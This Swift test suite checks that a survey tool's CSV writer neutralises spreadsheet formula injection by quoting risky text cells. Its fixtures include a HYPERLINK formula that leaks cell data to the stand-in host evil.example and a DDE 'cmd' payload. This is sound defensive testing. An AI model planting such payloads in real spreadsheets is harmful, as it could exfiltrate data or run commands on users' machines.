import Foundation
import GRDB
import Testing
@testable import SurveyModel
@testable import SurveyXML
@testable import SurveyIntake
@testable import SurveyStore
@testable import SurveyOutputs
@testable import SurveyService

/// Issue 13, item 13: a text cell a spreadsheet would run as a formula goes out with a single
/// quote in front (OWASP), in both dialects and in `flags --format csv`; numbers stay numbers,
/// and the store and the JSON keep the text exactly.
@Suite("CSV: formula injection is neutralised in text cells only")
struct CSVInjectionTests {
    private static let hostile = #"=HYPERLINK("http://evil.example/?leak="&A2;"Klik")"#

    @Test("text cells starting with = + - @ (after white space), tab or CR get a quote; others and numbers do not",
          arguments: CSVDialect.allCases)
    func writerGuardsTextCells(dialect: CSVDialect) {
        var writer = CSVWriter(dialect: dialect, header: ["a"])
        writer.write([
            .text(Self.hostile), .text("+45 12 34"), .text("-1"), .text("@SUM(A1)"), .text("  =1+1"), .text("\tx"),
            .text("\rx"), .text("＝1"), .optionalText("=opt"), .text("a=b"), .text("ok"), .text(""), .optionalText(nil),
            .integer(-1), .decimal(-0.5),
        ])
        let separator = dialect == .excelDanish ? ";" : ","
        let decimal = dialect == .excelDanish ? "-0,5" : "-0.5"
        let fields = [
            #""'=HYPERLINK(""http://evil.example/?leak=""&A2;""Klik"")""#, "'+45 12 34", "'-1", "'@SUM(A1)", "'  =1+1",
            "'\tx", "\"'\rx\"", "'＝1", "'=opt", "a=b", "ok", "", "", "-1", decimal,
        ]
        let expected = dialect.byteOrderMark + Array(("a\r\n" + fields.joined(separator: separator) + "\r\n").utf8)
        #expect(String(decoding: writer.bytes, as: UTF8.self) == String(decoding: expected, as: UTF8.self))
    }

    @Test("a streamed text field from the store is guarded; an integer is not")
    func streamedFields() throws {
        let folder = try TestSupport.temporaryDirectory()
        let file = try ReplacementFile(folder.appendingPathComponent("t.csv"))
        var writer = try CSVWriter(dialect: .rfc4180, header: ["x", "n"], output: file)
        writer.text("-x")
        writer.integer(-7)
        try writer.endRecord()
        try writer.flush()
        try file.commit()
        #expect(try String(contentsOf: folder.appendingPathComponent("t.csv"), encoding: .utf8) == "x,n\r\n'-x,-7\r\n")
    }

    @Test("ingest: the CSV title is guarded in both dialects; the store and the kept original hold it exact",
          arguments: CSVDialect.allCases)
    func ingestedTitle(dialect: CSVDialect) throws {
        let inbox = try TestSupport.temporaryDirectory()
        let fixture = try TestSupport.fixture("format1-complete.xml")
        let escaped = Self.hostile.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "\"", with: "&quot;")
        try fixture.replacingOccurrences(of: "Testprojekt: tidlig opsporing af tryksår", with: escaped)
            .write(to: inbox.appendingPathComponent("a.xml"), atomically: true, encoding: .utf8)
        let output = try TestSupport.temporaryDirectory()
        let files = try InputFiles.collect([inbox.path]).files
        let runner = IngestRunner(pipeline: try TestSupport.pipeline(), options: .init(output: output, jobs: 1, dialect: dialect),
                                  toolVersion: "test")
        let summary = try runner.run(files: files)
        #expect(summary.new.count == 1)

        let csv = try String(contentsOf: output.appendingPathComponent("csv/submissions.csv"), encoding: .utf8)
        #expect(csv.contains(#""'=HYPERLINK(""http://evil.example/?leak=""&A2;""Klik"")""#))
        #expect(!csv.contains(#"""=HYPERLINK"#))

        let queue = try DatabaseQueue(path: output.appendingPathComponent("intake.sqlite").path)
        let (title, sha256) = try queue.read { db -> (String?, String?) in
            let row = try #require(try Row.fetchOne(db, sql: "SELECT title, sha256 FROM submissions"))
            return (row["title"], row["sha256"])
        }
        #expect(title == Self.hostile)
        let stored = try #require(sha256)
        let original = try #require(try IntakeStore(readingFrom: output).original(sha256: stored))
        #expect(String(decoding: original, as: UTF8.self).contains(escaped))
    }

    @Test("flags --format csv: a lead's text is guarded, round, position, line and column are numbers")
    func openFindingsCSV() {
        let lead = ProjectLead(email: "=cmd|' /C calc'!A0", name: "@Carl")
        let finding = OpenFinding(position: 1, field: "project.title", rule: .missing, label: "Project title",
                                  labelDanish: "Projektets titel", message: "m", messageDanish: "m", value: "-2+3",
                                  line: 7, column: 5,
                                  life: FlagLife(waiver: FlagWaiver(at: "2026-11-03T08:00:00Z", analyst: "@K", reason: "=1+1")))
        let submission = SubmissionFindings(submissionId: "s", projectId: "SP-2020-001", round: 2021, format: "statusrapport-1",
                                            sourceFile: "a.xml", submittedAt: "2021-11-15T14:30:00+01:00", title: nil,
                                            authority: nil, lead: lead, findings: [finding])
        let leads = [LeadFindings(lead: lead, projects: [ProjectFindings(projectId: "SP-2020-001", title: nil, authority: nil,
                                                                        submissions: [submission])])]
        let csv = OpenFindingsCSVWriter().write(leads)
        let lines = csv.components(separatedBy: "\r\n")
        #expect(lines.count == 3)
        #expect(lines[1] == "'=cmd|' /C calc'!A0,'@Carl,SP-2020-001,2021,s,a.xml,1,project.title,missing,"
            + "Project title,Projektets titel,'-2+3,m,m,7,5,waived,,,,,2026-11-03T08:00:00Z,'@K,'=1+1")
    }
}
